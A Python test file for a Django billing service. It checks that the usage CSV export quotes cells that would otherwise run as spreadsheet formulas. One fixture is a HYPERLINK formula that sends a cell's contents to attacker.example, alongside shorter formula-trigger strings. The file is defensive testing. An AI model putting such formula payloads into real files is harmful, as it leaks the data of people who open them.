"""The usage CSV never hands a spreadsheet a formula: names customers chose are written as text."""

import csv
import io

import pytest
from django.utils import timezone

from billing.api import spreadsheet_cell
from billing.ledger import record_usage
from controlplane.accounts.models import ApiKey
from tests.billing.conftest import usage_report
from tests.factories import EndpointFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your invoice")'


@pytest.mark.parametrize("text", [HOSTILE_NAME, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_text_that_would_start_a_formula_is_prefixed_with_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["chat", "my key = prod", "0.0017", 12, None, ""])
def test_ordinary_cells_are_written_unchanged(value):
    assert spreadsheet_cell(value) == value


def _export(client, group_by: str) -> list[dict]:
    today = timezone.now().date().isoformat()
    response = client.get("/api/v1/usage/export.csv", {"group_by": group_by, "start": today, "end": today})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_key_named_like_a_formula_is_exported_as_text(owner_client):
    key = ApiKey.objects.get(created_by=owner_client.user)
    key.name = HOSTILE_NAME
    key.save(update_fields=["name"])
    record_usage(usage_report(EndpointFactory(organization=owner_client.organization), api_key=key))

    [row] = _export(owner_client, "key")

    assert row["key_name"] == "'" + HOSTILE_NAME
    assert row["requests"] == "1"


def test_an_endpoint_name_starting_with_a_formula_sign_is_exported_as_text(owner_client):
    # The API refuses such names today; rows written before that rule, or by staff, still export safely.
    endpoint = EndpointFactory(organization=owner_client.organization, name="-cmd")
    record_usage(usage_report(endpoint))

    [row] = _export(owner_client, "endpoint")

    assert row["endpoint"] == "'-cmd"
